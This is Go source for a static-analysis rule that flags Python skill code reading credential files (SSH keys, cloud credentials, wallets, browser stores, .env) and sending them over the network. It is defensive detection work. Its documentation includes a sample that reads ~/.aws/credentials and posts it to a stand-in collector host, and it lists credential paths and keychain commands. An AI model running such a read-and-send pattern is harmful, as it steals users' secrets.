package rules

import (
	"path"
	"strconv"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/hostfacts"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/python"
	"github.com/skillvet/skillvet/skill"
)

// PythonCredentialFiles reports Python code that reads credential files.
var PythonCredentialFiles = register(&analyzer.Rule{
	ID:       "SV281",
	Name:     "python-credential-files",
	Title:    "Python reads credential files (SSH keys, cloud credentials, wallets, browser stores)",
	Severity: Medium,
	Category: analyzer.CatCredentialFiles,
	Tags:     []string{"security", "python", "CWE-522", "CWE-200"},
	Inputs:   analyzer.InPython,
	Doc: `Python code opens, copies, archives or queries a file that holds credentials:
` + "`~/.ssh`" + `, ` + "`~/.aws/credentials`" + `, ` + "`~/.config/gh/hosts.yml`" + `, ` + "`~/.netrc`" + `, ` + "`~/.git-credentials`" + `,
` + "`~/.npmrc`" + `, ` + "`~/.docker/config.json`" + `, ` + "`~/.kube/config`" + `, cloud SDK tokens, browser profiles
(` + "`Login Data`" + `, ` + "`Cookies`" + `), crypto wallets, password stores and keychains (the shared list
of credential paths). Paths are reassembled the way the code builds them —
` + "`os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')`" + `, ` + "`Path.home() / '.aws' / 'credentials'`" + `,
variables holding either — and commands such as ` + "`security find-generic-password`" + ` are included.

- **critical** when the same file also sends data over the network: reading secrets and
  a way out is the harvesting pattern;
- **medium** otherwise: a skill rarely needs another tool's credentials.

The read and the send may sit in different modules of the skill: a function of ` + "`collector.py`" + `
returns the file and ` + "`main.py`" + ` posts ` + "`gather()`" + `, or ` + "`main.py`" + ` hands the content to
` + "`uploader.send(payload)`" + `. Imports of the skill's own modules are resolved (` + "`from collector import`" + `,
` + "`import collector`" + `, relative and package imports, methods of imported classes, imported path
constants) and graded as if both halves were in one file; the message names the other module and line.

A project-local ` + "`.env`" + ` file (` + "`open('.env')`" + `, ` + "`load_dotenv()`" + `) is normal configuration and is
reported only when its content flows into a network call to a host that is not a known
API (**critical**); a ` + "`.env`" + ` under the home directory is always reported: **critical** when
its content flows to a stranger, **medium** when no flow from it to a send is found (a shared
workspace ` + "`.env`" + ` is where agents keep the API keys skills read for their own service).
It is **medium** too when one setting of it (the file split into lines and looked up, the way
an environment variable is) goes as the credential of a request (` + "`headers`" + `, ` + "`auth`" + `) to a
server the user configures: a destination that comes only from environment variables and
command-line arguments (` + "`os.getenv(\"FORGE_URL\", \"\")`" + `, an argparse option defaulting to it), with
no literal host anywhere in it and nothing in the code rewriting them (environment writes,
` + "`set_defaults`" + `, proxies), and that the skill itself does not set: its instructions export no
such variable to a stranger and run the script with no such URL. A literal default
(` + "`os.getenv(\"X\", \"https://…\")`" + `) makes the destination the author's, graded by its host. SSH keys,
cloud credentials, wallets and browser stores get no such allowance (sent to a server that
does not resolve they stay **critical**): no service receives those from a skill.

**Fix:** ask the user for the one value the skill needs, or read it from a variable
the user sets for this skill.

Bad:

` + "```python" + `
from pathlib import Path
import requests
creds = (Path.home() / ".aws" / "credentials").read_text()
requests.post("https://collector.example.net", data=creds)
` + "```" + `

Good:

` + "```python" + `
import boto3
s3 = boto3.client("s3")  # the SDK reads credentials itself, they never pass through the skill
` + "```",
	Run: runPythonCredentialFiles,
})

var pyCredReadSuffixes = []string{".read_text", ".read_bytes", ".open", ".exists", ".is_file", ".iterdir", ".glob", ".rglob"}

// pyPathBuilders only compute paths; the access is reported where the path
// is used.
var pyPathBuilders = map[string]bool{"os.path.join": true, "os.path.expanduser": true, "os.path.expandvars": true,
	"pathlib.Path": true, "Path": true, "pathlib.PurePath": true}

// pyCredentialPath matches a credential path in the rendered paths. local
// is true for a project-local .env, which counts only when it is sent.
func pyCredentialPath(paths []string) (label, path string, local, ok bool) {
	for _, text := range paths {
		for _, p := range strings.Split(text, "\n") {
			l, _, _, ok := intel.MatchCredentialPath(p)
			if !ok {
				continue
			}
			local := l == "dotenv file" && !strings.HasPrefix(p, "~") && !strings.HasPrefix(p, "/")
			return l, p, local, true
		}
	}
	return "", "", false, false
}

// pyCredentialAccesses lists calls that access credential files.
func pyCredentialAccesses(p *analyzer.Pass, m *python.Module) []pyCredAccess {
	var out []pyCredAccess
	seen := map[string]bool{}
	for _, c := range m.Calls {
		var paths []string
		switch {
		case pyfacts.FileCalls[c.Name] && !pyPathBuilders[c.Name]:
			if pyfacts.Openish(c.Name) && pyfacts.IsWriteMode(pyfacts.OpenMode(m, c)) {
				continue
			}
			for _, a := range c.Args {
				if a.Keyword == "" || a.Keyword == "file" || a.Keyword == "path" || a.Keyword == "src" {
					paths = append(paths, pyfacts.PathAcross(p, m, a.Start, a.End, 2)...)
				}
			}
		case pyfacts.HasSuffixAny(c.Name, pyCredReadSuffixes...):
			paths = pyfacts.PathAcross(p, m, c.Head, c.Open, 2)
		case pyfacts.SubprocessCalls[c.Name] || pyfacts.ShellStringCalls[c.Name]:
			if a, ok := c.Arg(0, "args"); ok {
				if items, ok := pyfacts.ArgList(m, a); ok {
					var words []string
					for _, it := range items {
						w, _ := m.Fold(it[0], it[1])
						words = append(words, w)
					}
					paths = append(paths, strings.Join(words, " "))
				} else if s, ok := m.Fold(a.Start, a.End); ok {
					paths = append(paths, s)
				}
			}
		default:
			continue
		}
		label, path, local, ok := pyCredentialPath(paths)
		if !ok {
			continue
		}
		if seen[path] {
			continue // one finding per credential path
		}
		seen[path] = true
		out = append(out, pyCredAccess{call: c, label: label, path: path, local: local})
	}
	return out
}

// pyCredSendGrade grades a credential read in a file that also sends data.
// flow is false when no flow from the read to a send of the file was found.
// setting is true for a value read from a dotenv file, which may go to a
// server the user configures (pyCredUserServer).
func pyCredSendGrade(p *analyzer.Pass, m *python.Module, read *python.Call, msg, note string, setting bool) (sev analyzer.Severity, out string, flow bool) {
	hosts := hostfacts.Of(p.Skill)
	foreign := false
	for _, c := range m.Calls {
		if !pyfacts.NetSink(m, c) {
			continue
		}
		host, class := "", intel.HostUnknown
		if u := pyfacts.SinkURL(m, c); u != "" {
			host, class = intel.URLClass(u)
		}
		known := class == intel.HostKnownAPI || class == intel.HostLoopback || host != "" && (hosts.Familiar(host) || p.Config.HostAllowed(host))
		if pyfacts.FlowsFrom(m, c, read) {
			if known {
				return Medium, msg + ", sent to " + pyfacts.HostOr(host) + " (line " + pyfacts.LineOf(m, c.Head) + "), the service the skill uses", true
			}
			if setting && host == "" {
				if d, ok := pyCredUserServer(p, m, c, read); ok {
					return Medium, msg + ", sent as the credential of a request (line " + pyfacts.LineOf(m, c.Head) + ") to the server the user configures (" + d.Desc() + ")", true
				}
			}
			return Critical, msg + " and sends it to " + pyfacts.HostOr(host) + " (line " + pyfacts.LineOf(m, c.Head) + ")", true
		}
		foreign = foreign || !known
	}
	if foreign {
		return High, msg + note + "; no flow from the read to the send was found, but a destination is not one the skill is about", false
	}
	return Medium, msg + note + "; no flow from the read to the send was found, and the destinations are services the skill is about", false
}

// pyCredUserServer reports whether the value of read goes, through send c,
// to a server the user chooses: a setting from a dotenv file (one key of
// it, looked up the way an environment variable is) sent as the
// credential of a request (headers, auth) to a destination that comes
// only from the environment or the command line
// (pyfacts.ConfiguredDest), which the skill itself does not set
// (pyCredSkillSets). That is the credential reaching its issuer: use, not
// exfiltration. SSH keys, cloud credentials, wallets and browser stores
// never get here: no service receives those from a skill.
func pyCredUserServer(p *analyzer.Pass, m *python.Module, c, read *python.Call) (pyfacts.UserDest, bool) {
	if !pyCredPerEntry(m, read) {
		return pyfacts.UserDest{}, false // the whole file, not one setting
	}
	key := "flow:" + strconv.Itoa(read.Open)
	carried := false
	for _, a := range c.Args {
		if _, ok := m.Derives(key, a.Start, a.End, func(r python.Ref) bool { return r.Call && m.CallOf(r) == read }); !ok {
			continue
		}
		if a.Keyword != "headers" && a.Keyword != "auth" {
			return pyfacts.UserDest{}, false // the body, the URL: not the request's credential
		}
		carried = true
	}
	if !carried {
		return pyfacts.UserDest{}, false
	}
	d, ok := pyfacts.ConfiguredDest(m, c)
	if !ok || pyCredSkillSets(p, d) {
		return pyfacts.UserDest{}, false
	}
	return d, true
}

// pyCredPerEntry reports whether the content of read is taken apart into
// its entries, the way one setting is looked up in it: split into lines
// (path.read_text().splitlines(), f.readlines()) or iterated line by line
// (with open(path) as f: for line in f).
func pyCredPerEntry(m *python.Module, read *python.Call) bool {
	splits := func(k int) bool {
		return m.Is(k, ".") && (m.Is(k+1, "splitlines") || m.Is(k+1, "readlines") || m.Is(k+1, "split"))
	}
	after := read.Close + 1
	if splits(after) {
		return true
	}
	if !m.Is(after, "as") || after+1 >= len(m.Toks) || m.Toks[after+1].Kind != python.Name {
		return false
	}
	f := m.Text(after + 1)
	for k := after + 2; k+1 < len(m.Toks); k++ {
		if m.Toks[k].Kind != python.Name || m.Text(k) != f {
			continue
		}
		if m.Is(k-1, "in") && m.Is(k+1, ":") || splits(k+1) {
			return true
		}
	}
	return false
}

// pyCredSkillSets reports whether the skill itself chooses the
// destination a configured send reads: its instructions or files set one
// of the environment variables (the session environment, a line that
// assigns it or names it beside a URL), run the script with a URL or host
// on the command line, or its Python code writes the environment of the
// processes it starts. A value on a documentation domain (example.com,
// .test) or a host the skill is about is no stranger; anything else,
// unresolved values included, is the author's choice.
func pyCredSkillSets(p *analyzer.Pass, d pyfacts.UserDest) bool {
	hosts := hostfacts.Of(p.Skill)
	stranger := func(text string) bool {
		for _, u := range intel.URLRx.FindAllString(text, 8) {
			host, class := intel.URLClass(u)
			if host == "" || intel.DocExampleDomain(host) || class == intel.HostKnownAPI || class == intel.HostLoopback ||
				hosts.Familiar(host) || p.Config.HostAllowed(host) {
				continue
			}
			return true
		}
		return false
	}
	env := p.SessionEnv()
	for _, n := range d.Env {
		if v, ok := env[n]; ok && (stranger(v.Value) || !strings.Contains(v.Value, "://")) {
			return true
		}
	}
	script := ""
	if p.File.Embed == nil {
		script = path.Base(p.File.Path)
	}
	for _, f := range p.Skill.Files {
		if f.Embed != nil || !f.Kind.IsText() {
			continue
		}
		text := string(f.Content)
		if f.Kind == skill.KindPython {
			cm, err := analyzer.PythonOf(f)
			if err != nil || pyfacts.WritesEnv(cm) || pyCredChildEnv(cm) {
				return true
			}
		}
		lines := strings.Split(text, "\n")
		for i, line := range lines {
			// what the instructions say about a setting may run on to
			// the next lines (Set FORGE_URL to:\n\n    https://…)
			near := line
			if f.Kind != skill.KindPython {
				near = strings.Join(lines[i:min(i+pyCredNearLines, len(lines))], "\n")
			}
			for _, n := range d.Env {
				if !pyCredHasWord(line, n) {
					continue
				}
				if stranger(near) {
					return true
				}
				if f.Kind != skill.KindPython && pyCredSetsValue(line, n, stranger) {
					return true
				}
			}
			if len(d.Args) > 0 && script != "" && pyCredHasWord(line, script) && f != p.File {
				if stranger(near) {
					return true
				}
				for _, a := range d.Args {
					if strings.HasPrefix(a, "-") && pyCredSetsValue(line, a, stranger) {
						return true
					}
				}
			}
		}
	}
	return false
}

// pyCredRemoteSends lists the network calls of the skill's other modules
// the read's content reaches: through a function of another module this
// file calls with it (uploader.send(creds)), or from a function of this
// file another module imports and sends the result of.
func pyCredRemoteSends(p *analyzer.Pass, m *python.Module, read *python.Call) []pyfacts.Send {
	var out []pyfacts.Send
	key := "flow:" + strconv.Itoa(read.Open)
	for _, c := range m.Calls {
		for _, s := range pyfacts.RemoteSends(p, m, c) {
			if _, ok := m.Derives(key, s.Arg.Start, s.Arg.End, func(r python.Ref) bool { return r.Call && m.CallOf(r) == read }); ok {
				out = append(out, s)
			}
		}
	}
	return append(out, pyfacts.SentElsewhere(p, m, read)...)
}

// pyCredRemoteGrade grades a read whose content another module sends:
// critical when a destination is a stranger, medium when every one is the
// service the skill is about. ok is false when no such send was found.
func pyCredRemoteGrade(p *analyzer.Pass, sends []pyfacts.Send, msg string) (analyzer.Severity, string, bool) {
	if len(sends) == 0 {
		return Medium, msg, false
	}
	hosts := hostfacts.Of(p.Skill)
	var knownMsg string
	for _, s := range sends {
		host, class := "", intel.HostUnknown
		if s.URL != "" {
			host, class = intel.URLClass(s.URL)
		}
		where := s.Where()
		if s.Via != "" {
			where = s.Via + " in " + where
		}
		if class == intel.HostKnownAPI || class == intel.HostLoopback || host != "" && (hosts.Familiar(host) || p.Config.HostAllowed(host)) {
			if knownMsg == "" {
				knownMsg = msg + ", sent to " + pyfacts.HostOr(host) + " (" + where + "), the service the skill uses"
			}
			continue
		}
		return Critical, msg + " and sends it to " + pyfacts.HostOr(host) + " (" + where + ")", true
	}
	return Medium, knownMsg, true
}

type pyCredAccess struct {
	call  *python.Call
	label string
	path  string
	local bool // project-local .env
}

func runPythonCredentialFiles(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	acc := pyCredentialAccesses(p, m)
	if len(acc) == 0 {
		return nil
	}
	sinkNote := pyfacts.SinkNote(m)
	for _, a := range acc {
		start, end := m.Span(a.call)
		if a.local {
			// the project's own .env: reported only when its content is sent
			// somewhere other than a known API
			sent := false
			for _, c := range m.Calls {
				if !pyfacts.NetSink(m, c) || !pyfacts.FlowsFrom(m, c, a.call) {
					continue
				}
				host, class := "", intel.HostUnknown
				if u := pyfacts.SinkURL(m, c); u != "" {
					host, class = intel.URLClass(u)
				}
				if class == intel.HostKnownAPI || class == intel.HostLoopback || p.Config.HostAllowed(host) {
					continue
				}
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Critical,
					Message: "reads the project's " + pyfacts.ClipStr(a.path, 40) + " and sends it to " + pyfacts.HostOr(host) + " (line " + pyfacts.LineOf(m, c.Head) + ")"})
				sent = true
				break
			}
			if !sent {
				// sent by another module of the skill
				for _, s := range pyCredRemoteSends(p, m, a.call) {
					host, class := "", intel.HostUnknown
					if s.URL != "" {
						host, class = intel.URLClass(s.URL)
					}
					if class == intel.HostKnownAPI || class == intel.HostLoopback || p.Config.HostAllowed(host) {
						continue
					}
					pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Critical,
						Message: "reads the project's " + pyfacts.ClipStr(a.path, 40) + " and sends it to " + pyfacts.HostOr(host) + " (" + s.Where() + ")"})
					break
				}
			}
			continue
		}
		msg := "reads " + a.label + " (" + pyfacts.ClipStr(a.path, 60) + ")"
		sev, flow := Medium, false
		local := msg
		if note := sinkNote(); note != "" {
			// A read and a send in one file are two capabilities; the
			// chain is the read's data reaching the send. Where the data
			// goes decides: a stranger is exfiltration, the service the
			// skill is for (or a known API) is use.
			sev, msg, flow = pyCredSendGrade(p, m, a.call, msg, note, a.label == "dotenv file")
		}
		if !flow {
			// the same chain split across the skill's modules
			if rs, rm, ok := pyCredRemoteGrade(p, pyCredRemoteSends(p, m, a.call), local); ok {
				sev, msg = rs, rm
			}
		}
		if !flow && sev == High && a.label == "dotenv file" {
			// A .env file is where a skill's own settings and API keys
			// live: reading it beside an unresolved request, with no
			// flow between them, is configuration, not a stolen key (a
			// flow to a stranger stays critical above)
			sev = Medium
			msg += " (a .env file: where a skill keeps its own settings and keys)"
		}
		pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: sev, Message: msg})
	}
	return nil
}

// pyCredNearLines is how many lines, from one naming a setting, are read
// for the value the skill gives it.
const pyCredNearLines = 3

// pyCredChildEnv reports whether module m starts processes with an
// environment of its own making (subprocess.run(…, env=…), os.execve).
func pyCredChildEnv(m *python.Module) bool {
	for _, c := range m.Calls {
		if _, ok := c.Kwarg("env"); ok && pyfacts.SubprocessCalls[c.Name] {
			return true
		}
		if pyfacts.HasPrefixAny(c.Name, "os.exec", "os.spawn") && pyfacts.HasSuffixAny(c.Name, "e", "pe") {
			return true
		}
	}
	return false
}

// pyCredHasWord reports whether w occurs in line as a word of its own
// (FORGE_URL, --url, forge.py).
func pyCredHasWord(line, w string) bool {
	for i := 0; i < len(line); {
		k := strings.Index(line[i:], w)
		if k < 0 {
			return false
		}
		k += i
		e := k + len(w)
		if (k == 0 || !pyCredWordByte(line[k-1])) && (e == len(line) || !pyCredWordByte(line[e])) {
			return true
		}
		i = k + 1
	}
	return false
}

func pyCredWordByte(c byte) bool {
	return c == '_' || c == '-' || c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}

// pyCredSetsValue reports whether line gives setting name a value of the
// author's choosing: NAME=value, NAME: value, "NAME": "value", --flag
// value. A URL or host there is judged by stranger; placeholders (<url>,
// $VAR, an upper-case word, an empty value) are the user's to fill in; a
// command's output or any other literal is the author's.
func pyCredSetsValue(line, name string, stranger func(string) bool) bool {
	for i := 0; i < len(line); {
		k := strings.Index(line[i:], name)
		if k < 0 {
			return false
		}
		k += i
		i = k + 1
		if k > 0 && pyCredWordByte(line[k-1]) {
			continue
		}
		rest := line[k+len(name):]
		if rest != "" && pyCredWordByte(rest[0]) {
			continue
		}
		rest = strings.TrimLeft(rest, `"'`+"`")
		t := strings.TrimLeft(rest, " \t")
		switch {
		case strings.HasPrefix(t, "="), strings.HasPrefix(t, ":"):
			t = strings.TrimLeft(t[1:], " \t")
		case strings.HasPrefix(name, "-") && len(t) < len(rest):
			// --url value
		default:
			continue
		}
		if strings.HasPrefix(strings.TrimLeft(t, `"'`), "$(") || strings.HasPrefix(t, "`") {
			return true // a command's output
		}
		v := ""
		if f := strings.Fields(t); len(f) > 0 {
			v = strings.Trim(f[0], `"'`+"`,;)")
		}
		switch {
		case v == "", strings.HasPrefix(v, "<"), strings.HasPrefix(v, "{"), strings.HasPrefix(v, "$"), strings.HasPrefix(v, "..."):
			continue
		case strings.Contains(v, "://"):
			if stranger(v) {
				return true
			}
			continue
		case pyfacts.HostLitRx.MatchString(v):
			if stranger("https://" + v) {
				return true
			}
			continue
		case strings.ToUpper(v) == v && strings.IndexFunc(v, func(r rune) bool { return r >= 'A' && r <= 'Z' }) >= 0:
			continue // URL, YOUR_SERVER
		}
		return true
	}
	return false
}
